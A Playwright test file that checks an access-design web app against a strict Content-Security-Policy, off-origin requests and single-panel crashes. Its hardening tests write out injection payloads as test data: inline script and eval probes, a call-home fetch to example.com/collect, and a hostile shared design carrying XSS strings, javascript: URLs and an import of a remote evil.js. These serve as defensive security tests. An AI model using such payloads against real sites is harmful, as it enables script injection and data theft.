/**
 * The built app under a strict Content-Security-Policy: the main flows (load, template, ticking
 * boxes, the simulator, every export in Monaco, the TypeScript editor, share and import dialogs,
 * a download) cause no CSP violation, no console error, no uncaught exception and no request to
 * any origin but the app's own. The policy is enforced (eval, inline script and remote fetches are
 * blocked). A panel that throws is replaced by its error and a "Try again", the rest keeps working
 * (shown with the development server's `?crash=<panel>` switch, which production builds lack).
 */
import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { createServer, type ViteDevServer } from 'vite';
import { encodeShareFragment, type Design } from '../src/core';
import { addPath, loadTemplate, matrix, openApp, problems, tick } from './helpers';

const root = resolve(import.meta.dirname, '..');

interface Watch {
  violations: string[];
  consoleErrors: string[];
  pageErrors: string[];
  offOrigin: string[];
  dialogs: string[];
}

/** Records what a strict, offline page must never do, from before its first script runs. */
async function watch(page: Page, context: BrowserContext): Promise<Watch> {
  const seen: Watch = {
    violations: [],
    consoleErrors: [],
    pageErrors: [],
    offOrigin: [],
    dialogs: [],
  };
  await page.exposeFunction('__cspViolation', (text: string) => void seen.violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      const report = (window as unknown as { __cspViolation: (t: string) => void }).__cspViolation;
      report(
        `${e.effectiveDirective} blocked ${e.blockedURI || '(inline)'} at ${e.sourceFile}:${e.lineNumber}`,
      );
    });
  });
  page.on('console', (message) => {
    const text = message.text();
    if (message.type() === 'error') seen.consoleErrors.push(text);
    else if (/Content.Security.Policy/i.test(text)) seen.violations.push(`console: ${text}`);
  });
  page.on('pageerror', (error) => void seen.pageErrors.push(String(error)));
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  // The context sees the requests of every page and worker (Monaco's run in workers).
  context.on('request', (request) => {
    const url = new URL(request.url());
    const own = new URL(
      page.url() === 'about:blank' ? test.info().project.use.baseURL! : page.url(),
    );
    if (url.protocol === 'data:' || url.protocol === 'blob:') return;
    if (url.origin !== own.origin) seen.offOrigin.push(request.url());
  });
  return seen;
}

function expectClean(seen: Watch) {
  expect(seen.violations, 'CSP violations').toEqual([]);
  expect(seen.consoleErrors, 'console errors').toEqual([]);
  expect(seen.pageErrors, 'uncaught exceptions').toEqual([]);
  expect(seen.offOrigin, 'requests to other origins').toEqual([]);
  expect(seen.dialogs, 'alert/confirm/prompt').toEqual([]);
}

/** Brings the exports panel into view and waits until Monaco (not the plain-text stand-in) shows `tab`. */
async function monacoShows(page: Page, tab: string) {
  await page
    .getByRole('tablist', { name: 'Export format' })
    .getByRole('tab', { name: tab, exact: true })
    .click();
  await page.getByRole('region', { name: 'Exports' }).scrollIntoViewIfNeeded();
  await expect(page.locator('#exports .monaco-editor').first()).toBeVisible({ timeout: 20_000 });
}

test('the page carries the policy, and the browser enforces it', async ({ page, context }) => {
  const seen = await watch(page, context);
  await openApp(page);
  const policy = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  for (const directive of [
    "default-src 'self'",
    "script-src 'self'",
    "worker-src 'self'",
    "connect-src 'self'",
    "object-src 'none'",
  ])
    expect(policy).toContain(directive);
  expect(policy).not.toMatch(/unsafe-eval|https?:|\*|blob:/);

  // What an injected payload would try: an inline script, eval, a call home. All blocked. (A
  // script of the page itself must try eval: Playwright's own evaluate is exempt from the policy.)
  await page.route('**/__probe.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: "try { eval('1'); window.__probe = 'eval ran'; } catch { window.__probe = 'eval blocked'; }",
    }),
  );
  const attempts = await page.evaluate(async () => {
    const results: string[] = [];
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true';
    document.body.append(inline);
    results.push(
      (window as { __inlineRan?: boolean }).__inlineRan ? 'inline ran' : 'inline blocked',
    );
    const probe = document.createElement('script');
    probe.src = './__probe.js';
    await new Promise((done) => {
      probe.onload = probe.onerror = done;
      document.body.append(probe);
    });
    results.push((window as { __probe?: string }).__probe ?? 'probe did not run');
    try {
      await fetch('https://example.com/collect');
      results.push('fetch went out');
    } catch {
      results.push('fetch blocked');
    }
    return results;
  });
  expect(attempts).toEqual(['inline blocked', 'eval blocked', 'fetch blocked']);
  await expect.poll(() => seen.violations.length).toBeGreaterThanOrEqual(3);
  expect(seen.offOrigin, 'the blocked fetch never left').toEqual([]);
});

test('the main flows: no CSP violation, no console error, no request off origin', async ({
  page,
  context,
}) => {
  test.setTimeout(120_000);
  const seen = await watch(page, context);
  await openApp(page);

  // Template, then ticking boxes in the design grid.
  await loadTemplate(page, 'Admin and auditor groups');
  await addPath(page, 'hardening/*');
  await tick(page, 'guest read hardening/*');
  await tick(page, 'authenticated write hardening/*');
  await expect(
    matrix(page).getByRole('rowheader', { name: 'hardening/*', exact: true }),
  ).toBeVisible();
  await expect(problems(page)).toBeVisible();

  // The request simulator.
  await page.getByRole('combobox', { name: 'Person' }).selectOption({ label: 'guest' });
  await page.getByRole('combobox', { name: 'Action' }).selectOption('get');
  await page.getByRole('textbox', { name: 'Object key' }).fill('hardening/cat.png');
  await expect(page.getByRole('status').filter({ hasText: /^Allowed/ })).toBeVisible();

  // Every export, in Monaco (its editor worker, fonts and injected styles).
  await page.getByRole('textbox', { name: 'Bucket name' }).fill('hardening-bucket');
  const tabs = page.getByRole('tablist', { name: 'Export format' }).getByRole('tab');
  for (const tab of await tabs.allTextContents()) await monacoShows(page, tab.trim());
  await monacoShows(page, 'resource.ts');

  // A download (a blob: URL, never a request elsewhere).
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download resource.ts', exact: true }).click(),
  ]);
  expect(file.suggestedFilename()).toBe('resource.ts');

  // The TypeScript editor (Monaco's TypeScript worker).
  await page.getByRole('button', { name: 'Edit as code' }).click();
  await expect(page.getByRole('textbox', { name: 'resource.ts (editable)' })).toBeAttached({
    timeout: 30_000,
  });
  await expect(
    page.getByRole('status').filter({ hasText: 'Edits apply to the design as you type' }),
  ).toBeVisible({ timeout: 30_000 });
  await page.getByRole('button', { name: 'Edit as code' }).click();

  // The share and import dialogs.
  await page.getByRole('button', { name: 'Share link' }).click();
  const share = page.getByRole('dialog', { name: 'Share this design' });
  await expect(share.getByRole('textbox', { name: 'Link' })).toHaveValue(/#d1\./);
  await share.getByRole('button', { name: 'Close' }).click();
  await page.getByRole('button', { name: 'Import…' }).click();
  const importing = page.getByRole('dialog', { name: 'Import design' });
  await importing.getByRole('textbox', { name: 'Source to import' }).fill('f<a>('.repeat(30));
  await importing.getByRole('button', { name: 'Import', exact: true }).click();
  await expect(page.getByRole('alert').filter({ hasText: 'Nothing was imported' })).toContainText(
    'too complex',
  );
  await page.keyboard.press('Escape');

  await page.waitForTimeout(500); // late worker messages and idle-time work
  expectClean(seen);
});

test('a hostile shared design runs nothing and stays on this origin', async ({ page, context }) => {
  const hostile: Design = {
    storages: [
      {
        name: '"><script>alert(1)</script>',
        hasAccess: true,
        paths: [
          {
            path: '<img src="https://example.com/x.png" onerror="alert(2)">/*',
            rules: [
              { principal: { kind: 'groups', groups: ['javascript:alert(3)'] }, actions: ['read'] },
            ],
          },
          {
            path: "'); alert(4); ('/*",
            rules: [
              {
                principal: {
                  kind: 'resource',
                  fn: 'x } from "https://example.com/evil.js"; alert(5); import { y',
                },
                actions: ['get'],
              },
            ],
          },
        ],
      },
    ],
    groups: ['javascript:alert(3)'],
    functions: ['x } from "https://example.com/evil.js"; alert(5); import { y'],
  };
  const seen = await watch(page, context);
  await openApp(page);
  await page.goto(`./#${await encodeShareFragment(hostile)}`);
  await expect(
    matrix(page).getByRole('rowheader', { name: hostile.storages[0]!.paths[0]!.path }),
  ).toBeVisible();
  for (const tab of ['resource.ts', 'IAM policies', 'amplify_outputs.json'])
    await monacoShows(page, tab);
  expect(await page.locator('script:not([src]), img[src^="https:"]').count()).toBe(0);
  await page.waitForTimeout(300);
  expectClean(seen);
});

test('the production build has no crash switch', () => {
  const assets = join(root, 'dist', 'assets');
  const scripts = readdirSync(assets).filter((f) => f.endsWith('.js'));
  expect(scripts.length).toBeGreaterThan(0);
  for (const name of scripts)
    expect(readFileSync(join(assets, name), 'utf8'), name).not.toContain('Crash requested');
});

test.describe('a failing panel (development server)', () => {
  let server: ViteDevServer;
  let base: string;
  test.beforeAll(async () => {
    server = await createServer({
      root,
      // Its own dependency cache: never in the way of a developer's dev server.
      cacheDir: join(tmpdir(), 'access-matrix-hardening-vite'),
      logLevel: 'error',
      server: { host: '127.0.0.1', port: 0, strictPort: false },
    });
    await server.listen();
    base = server.resolvedUrls!.local[0]!;
  });
  test.afterAll(async () => {
    await server?.close();
  });

  const PANELS: [id: string, title: string][] = [
    ['design', 'Design'],
    ['matrix', 'Effective access'],
    ['exports', 'Exports'],
    ['compare', 'Compare'],
    ['problems', 'Problems'],
    ['simulator', 'Request simulator'],
  ];

  test('each panel fails alone: its error in place, the others working, "Try again" recovers', async ({
    page,
  }) => {
    test.setTimeout(180_000);
    for (const [id, title] of PANELS) {
      await page.goto(`${base}?crash=${id}`);
      const failed = page.getByRole('region', { name: title, exact: true });
      await expect(failed.getByRole('alert')).toHaveText(
        new RegExp(`This panel stopped working: Crash requested for the ${id} panel`),
        { timeout: 30_000 },
      );
      // Every other panel is there and the app still answers.
      for (const [otherId, other] of PANELS)
        if (otherId !== id)
          await expect(page.getByRole('region', { name: other, exact: true })).toBeVisible();
      if (id !== 'design') await tick(page, 'guest write media/*');
      if (id !== 'matrix') await expect(matrix(page)).toBeVisible();
      await failed.getByRole('button', { name: 'Try again' }).click();
      await expect(failed.getByRole('alert')).toHaveCount(0);
      await expect(page.getByRole('region', { name: title, exact: true })).toBeVisible();
    }
    await expect(matrix(page)).toBeVisible();
  });
});
